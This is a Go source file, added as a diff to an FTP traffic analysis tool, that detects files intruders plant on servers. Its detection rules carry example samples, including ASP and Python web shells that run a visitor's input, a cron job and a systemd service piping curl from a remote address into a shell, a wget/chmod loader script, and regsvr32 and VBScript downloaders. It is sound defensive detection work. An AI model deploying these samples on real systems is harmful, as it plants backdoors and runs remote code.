@@ -1,0 +1,250 @@
+// What intruders plant on a server: pages that run what they are sent, jobs that fetch programs, miners.
+
+package baseline
+
+import (
+	"bytes"
+	"net/netip"
+	"slices"
+	"strings"
+
+	"ftplab/lab/analysis/capture"
+	"ftplab/lab/analysis/ftp"
+)
+
+// A plant is a file that intruders store, so that somebody runs it later. Each of its parts is in the file.
+type plant struct {
+	what string
+	// kind is loot for what has no other use, doubtful for what administrators seldom write, and
+	// suspect for what they sometimes do.
+	kind  contentKind
+	parts []part
+	// fetched says that a download of it counts, too, because devices fetch it to run it.
+	fetched bool
+	// source says who describes it, and example is such a file.
+	source, example string
+}
+
+// A part is a text of which one of the marks is a piece, in lower case. If has is nil, the mark is enough.
+// Marks are looked for first, because that is cheaper.
+type part struct {
+	marks []string
+	has   func(text []byte) bool
+}
+
+// marked is a part that has one of some marks.
+func marked(marks ...string) part { return part{marks: marks} }
+
+// like is a part that matches a pattern, and has one of some marks.
+func like(expression string, marks ...string) part {
+	p := pattern(expression)
+	return part{marks, func(text []byte) bool { return p().Match(text) }}
+}
+
+// in reports whether a text in lower case has the part.
+func (p part) in(text []byte) bool {
+	return slices.ContainsFunc(p.marks, func(m string) bool { return bytes.Contains(text, []byte(m)) }) && (p.has == nil || p.has(text))
+}
+
+// Fragments of patterns, in lower case.
+const (
+	// fromVisitor is what a visitor of a web site sent, in ASP, JSP, Perl, Python, Node and Ruby.
+	fromVisitor = `(\brequest\s*(\.\s*(form|querystring|params|item|headers|cookies|args|values|query|body|get|post))?\s*[\[(]|\breq(uest)?\.(query|body|params|headers|cookies|args|form|binaryread|inputstream)\b|` +
+		`\bget(parameter|header|querystring|reader)\s*\(|\$env\{['"]?(query_string|http_\w+)|\bparam\s*\(|\bgetvalue\s*\(|\bparams\[|\$\{?query_string)`
+	// runsShellText runs a text of a program as a program, in these languages.
+	runsShellText = `(getruntime\s*\(\s*\)\s*\.\s*exec|new\s+processbuilder|process\.start|\bos\.(system|popen)|\bpopen|\bsystem|\bexec(sync)?|\bexecute(global)?|\beval)`
+	// pipedToShell fetches a program, or decodes one, and hands it to a shell.
+	pipedToShell = `((\b(curl|wget|fetch|lynx)\b[^\n|]*|\bbase64 +(-d|-di|--decode)\b[^\n|]*)\| *(sudo +)?(/(usr/)?bin/)?(ba|da|z)?sh\b|` +
+		`\b(curl|wget)\b[^\n]*(;|&&) *(/(usr/)?bin/)?((ba|da|z)?sh|chmod [^\n;&]+) +\S*(/tmp|/var/tmp|/dev/shm)/)`
+	// scratch are folders that everybody may write.
+	scratch = `(/tmp|/var/tmp|/dev/shm)/`
+	// picturesEnd is an ending of files that are no programs.
+	picturesEnd = `\.(jpe?g|png|gif|bmp|ico|svg|txt|log|pdf|config|htaccess)\b`
+	schedule    = `(?m)^[ \t]*(@(reboot|hourly|daily|weekly|monthly|yearly|annually|midnight)\b|([*\d][\d*/,-]*[ \t]+){5})`
+)
+
+var (
+	serverPage = marked("<%", "<jsp:", "runat=")
+	aVisitor   = like(fromVisitor+`|\b\w+\.text\b`, "request", "get", "param", ".text")
+)
+
+const (
+	atWebShells = "MITRE ATT&CK, T1505.003 (web shell)"
+	atJobs      = "MITRE ATT&CK, T1053.003 (cron)"
+	atBoot      = "MITRE ATT&CK, T1543.002 (systemd service)"
+	atLoaders   = "MITRE ATT&CK, T1105 (ingress tool transfer)"
+	atMiners    = "MITRE ATT&CK, T1496 (resource hijacking)"
+	atProxies   = "MITRE ATT&CK, T1218 (system binary proxy execution)"
+)
+
+var plants = []plant{
+	{what: "a page that hands a shell what it is sent", kind: loot, source: atWebShells,
+		example: `<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments="/c "+Request["c"];p.Start();}</script>`,
+		parts: []part{serverPage, aVisitor,
+			marked("processstartinfo", "diagnostics.process", "process.start", "new process", "wscript.shell", "shell.application", "getruntime"),
+			like(`["'](/(usr/)?bin/)?(ba|da)?sh["' ]|["'](%comspec%|([a-z]:)?[\\\w]*cmd(\.exe)?)["' ]|\bpowershell(\.exe)?["' ]`, "sh", "cmd", "%comspec%")}},
+	{what: "a page that runs what it is sent", kind: loot, source: atWebShells,
+		example: "<% Dim x : ExecuteGlobal Request.Form(\"c\") %>",
+		parts:   []part{marked("<%", "<jsp:", "runat="), like(runsShellText+`\s*\(?[^;\n]{0,80}`+fromVisitor, "eval", "exec", "process")}},
+	{what: "a script that runs what it is sent", kind: loot, source: atWebShells,
+		example: "#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n",
+		parts: []part{marked("#!/", "import ", "require(", "<%", "<jsp:"),
+			{[]string{"system", "popen", "exec", "eval", "subprocess", "`"}, runsVisitors}}},
+	{what: "a page of ColdFusion that runs what it is sent", kind: loot, source: atWebShells,
+		example: `<cfexecute name="cmd.exe" arguments="/c #form.c#">`,
+		parts:   []part{like(`<cfexecute\b[^>]{0,200}#(url|form|cgi)\.`, "<cfexecute")}},
+	{what: "a page that loads a program which it is sent", kind: loot, source: atWebShells,
+		example: `<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance("U"); %>`,
+		parts:   []part{serverPage, aVisitor, like(`assembly\.load\s*\(\s*[^"\s)]|\bdefineclass\s*\(`, "assembly.load", "defineclass")}},
+	{what: "settings of a web server that run pictures or texts as programs", kind: loot, source: atWebShells,
+		example: "AddType application/x-httpd-php .jpg\n",
+		parts: []part{like(`(addtype|addhandler|sethandler)[ \t]+([^\n]{0,60}[^.\n])?(php|cgi-script)[^\n]{0,60}`+picturesEnd+
+			`|<files(match)?\b[^>]*(jpe?g|png|gif|bmp|ico|\.ht)[^>]*>[^<]{0,80}sethandler[^\n]{0,60}(php|cgi)`+
+			`|\bauto_(pre|ap)pend_file[ \t"=]+[^\n]{0,200}(`+picturesEnd+`|php://|data:|https?://|`+scratch+`)`+
+			`|<add\b[^>]*\bpath="[^">]*`+picturesEnd+`"[^>]*\bscriptprocessor=|<add\b[^>]*\bscriptprocessor=[^>]*\bpath="[^">]*`+picturesEnd,
+			"addtype", "handler", "pend_file")}},
+
+	{what: "a job that fetches a program and runs it", kind: loot, source: atJobs,
+		example: "* * * * * root curl -s http://203.0.113.9/x.sh|sh\n",
+		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "|", "; ", "&&", "/dev/tcp/")}},
+	{what: "a job that runs a program in a folder that everybody may write", kind: doubtful, source: atJobs,
+		example: "@reboot root /dev/shm/.x/kworker\n",
+		parts:   []part{like(schedule+`[ \t]*(root[ \t]+)?(/(usr/)?bin/(ba|da)?sh +)?`+scratch, "/tmp/", "/dev/shm/")}},
+	{what: "a service that fetches a program and runs it", kind: loot, source: atBoot,
+		example: "[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.9/x.sh | bash'\n",
+		parts:   []part{like(`(?m)^exec(start|stop|reload)(pre|post)?=[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "execst", "execreload")}},
+	{what: "a service in a folder that everybody may write", kind: doubtful, source: atBoot,
+		example: "[Service]\nExecStart=/dev/shm/.x/kworker\n",
+		parts:   []part{like(`(?m)^execstart(pre|post)?=[-@+!:]*`+scratch, "execstart")}},
+	{what: "a library that every program loads, from a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1574.006 (dynamic linker hijacking)",
+		example: "export LD_PRELOAD=/dev/shm/.x.so\n",
+		parts:   []part{like(`\bld_preload=["']?`+scratch, "ld_preload=")}},
+
+	{what: "a script that fetches a program for each kind of processor and runs it", kind: loot, fetched: true, source: atLoaders,
+		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
+		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&) *chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&) *(sh |\./)[^\n]*\n+){3}`, "chmod")}},
+	{what: "a script that hands a shell what it fetches from a host without a name", kind: doubtful, fetched: true, source: atLoaders,
+		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
+		parts:   []part{{[]string{"curl", "wget"}, fetchesFromAddress}}},
+	{what: "a command of PowerShell that hides its window and its text", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
+		example: "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
+		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{40}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
+	{what: "a program of Windows that runs a script of another site", kind: loot, fetched: true, source: atProxies,
+		example: "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
+		parts:   []part{like(`\bregsvr32\b[^\n]*/i:["']?https?:|\brundll32\b[^\n]*javascript:|\bmshta(\.exe)?["']?[ ,"']+(https?|javascript|vbscript):`, "regsvr32", "rundll32", "mshta")}},
+	{what: "a script of Windows that fetches a program and runs it", kind: doubtful, fetched: true, source: atLoaders,
+		example: `Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://203.0.113.9/a.exe",0:h.Send:Set s=CreateObject("ADODB.Stream"):s.Write h.ResponseBody:s.SaveToFile "a.exe":CreateObject("WScript.Shell").Run "a.exe"`,
+		parts:   []part{marked("xmlhttp", "winhttprequest"), marked("adodb.stream"), marked("savetofile"), marked(".run", ".exec", "shellexecute")}},
+	{what: "a task of Windows that runs a program in a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1053.005 (scheduled task) and T1547.001 (run keys)",
+		example: `<Task><Exec><Command>C:\Users\Public\svc.exe</Command></Exec></Task>`,
+		parts:   []part{like(`<command>[^<]*\\(temp|tmp|public)\\|\[hkey_[^\]]*\\currentversion\\run(once)?\][^\[]*="[^\n]*\\(temp|tmp|public)\\`, "<command>", `\currentversion\run`)}},
+
+	{what: "the settings of a miner, with the wallet of its owner", kind: loot, source: atMiners,
+		example: "./m -o stratum+tcp://pool.example:3333 -u 48" + strings.Repeat("Ab9", 31),
+		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://"), like(`\b4[0-9ab][0-9a-z]{93}\b`, "4")}},
+	{what: "the settings of a miner", kind: suspect, source: atMiners,
+		example: "./m -o stratum+tcp://pool.example:3333 -u ada",
+		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://")}},
+	{what: "what intruders leave", kind: doubtful, source: "MITRE ATT&CK, T1491.002 (defacement)",
+		example: "Hacked by Mallory\n",
+		parts:   []part{like(`^\W*(h[a4]ck[e3]d|pwn[e3]d|d[e3]fac[e3]d) by\b`, " by")}},
+	{what: "a script that a page hides", kind: suspect, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
+		example: `<script>eval(unescape("%64%6f%63"))</script>`,
+		parts:   []part{marked("<script"), like(`\beval\s*\(\s*(unescape|atob|string\.fromcharcode|decodeuricomponent)\s*\(|\bunescape\s*\(\s*["'](%[0-9a-f]{2}){4}`, "unescape", "eval")}},
+}
+
+// toPool is the beginning of an address in a miner, which is a program.
+var toPool = []byte("stratum+tcp://")
+
+var (
+	// keptText matches a variable that a visitor's text is assigned to, and runText a variable that is run.
+	keptText = pattern(`([$@]?\b\w+)\s*=\s*[^;\n=]{0,40}` + fromVisitor)
+	runText  = pattern(runsShellText + `\s*\(?\s*(?:["'][^"'\n]{0,40}["']\s*[+.&]\s*)?([$@]?\w+)|` + "`" + `[^` + "`" + `\n]{0,60}(?:#\{)?([$@]\w+)[^` + "`" + `\n]{0,60}` + "`")
+	directly = pattern(`(\bos\.(system|popen)|(child_process['"]\)|\b(cp|child|child_?process))\.exec(sync)?|[\s=;(]exec(sync)?|\bsystem)\s*\([^;\n]{0,80}` + fromVisitor + `|(^|[\s;])(eval|exec|system)\s+["']?[^;\n]{0,40}\$(\{?query_string|env\{)|` + "`[^`\n]{0,80}\\$(\\{?query_string|env\\{)" + `|subprocess\.\w+\([^\n]{0,80}` + fromVisitor + `[^\n]{0,80}shell\s*=\s*true`)
+	// fromAddress matches a program that is fetched from an address, and handed to a shell.
+	fromAddress = pattern(`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b`)
+)
+
+// runsVisitors reports whether a script runs what a visitor sends, as it is or by way of a variable.
+func runsVisitors(text []byte) bool {
+	if directly().Match(text) {
+		return true
+	}
+	runs := runText().FindAllSubmatch(text, -1)
+	return slices.ContainsFunc(keptText().FindAllSubmatch(text, -1), func(kept [][]byte) bool {
+		return slices.ContainsFunc(runs, func(run [][]byte) bool {
+			return bytes.Equal(kept[1], run[len(run)-1]) || bytes.Equal(kept[1], run[len(run)-2])
+		})
+	})
+}
+
+// fetchesFromAddress reports whether a script hands a shell what it fetches from a public address. Installers
+// in a network of one's own are fetched from private ones.
+func fetchesFromAddress(text []byte) bool {
+	return slices.ContainsFunc(fromAddress().FindAllSubmatch(text, -1), func(m [][]byte) bool {
+		a, err := netip.ParseAddr(string(m[1]))
+		return err == nil && !a.IsPrivate() && !a.IsLoopback()
+	})
+}
+
+// planted are the files that intruders plant, by data connection.
+type planted struct {
+	texts map[int]map[int]int // by connection and plant: the parts that were found, as bits
+	found map[int]content
+	text  []byte // a buffer
+}
+
+// packet takes the next packet of a data connection. A file is a text or not by its first bytes; parts of
+// it may be in different packets.
+func (all *planted) packet(p *capture.Packet) {
+	t, data, id := p.Connection.Transfer, p.TCP.Payload, p.Connection.ID
+	if t == nil || isListing(t.Command) || p.Segment.DataSeq() >= maxPage {
+		return
+	}
+	if p.Segment.DataSeq() == 1 && isScript(data) && len(all.texts) < maxContents {
+		all.texts[id] = map[int]int{}
+	}
+	parts := all.texts[id]
+	if parts == nil {
+		if t.Sender() == ftp.Client && bytes.Contains(data, toPool) {
+			all.note(p, content{kind: doubtful, what: "a miner (" + atMiners + ")"})
+		}
+		return
+	}
+	all.text = appendLower(all.text[:0], bytes.ReplaceAll(data, []byte{0}, nil)) // UTF-16 has zeros
+	for i, plant := range plants {
+		if t.Sender() != ftp.Client && !plant.fetched {
+			continue
+		}
+		for j, part := range plant.parts {
+			if parts[i]&(1<<j) == 0 && part.in(all.text) {
+				parts[i] |= 1 << j
+			}
+		}
+		if parts[i] == 1<<len(plant.parts)-1 {
+			all.note(p, content{kind: plant.kind, what: plant.what + " (" + plant.source + ")", fetched: plant.fetched})
+		}
+	}
+}
+
+// note remembers the worst of what a connection shows.
+func (all *planted) note(p *capture.Packet, c content) {
+	if before, known := all.found[p.Connection.ID]; known && !(c.kind == loot && before.kind != loot) || len(all.found) >= maxContents {
+		return
+	}
+	if c.packet = p.Number; p.ChecksumWrong() {
+		c.damaged = p.IP.Src
+	}
+	all.found[p.Connection.ID] = c
+}
+
+// shortcut is how a shortcut of Windows begins.
+const shortcut = "L\x00\x00\x00\x01\x14\x02\x00"
+
+// isScript reports whether a file may be a script, by its first bytes: it is a text, or a shortcut.
+func isScript(data []byte) bool {
+	if bytes.HasPrefix(data, []byte(shortcut)) || bytes.HasPrefix(data, []byte("\xff\xfe")) || bytes.HasPrefix(data, []byte("\xfe\xff")) {
+		return true
+	}
+	return !bytes.ContainsFunc(data[:min(len(data), maxHead)], func(r rune) bool { return r < '\t' || r > '\r' && r < ' ' && r != '\x1b' })
+}
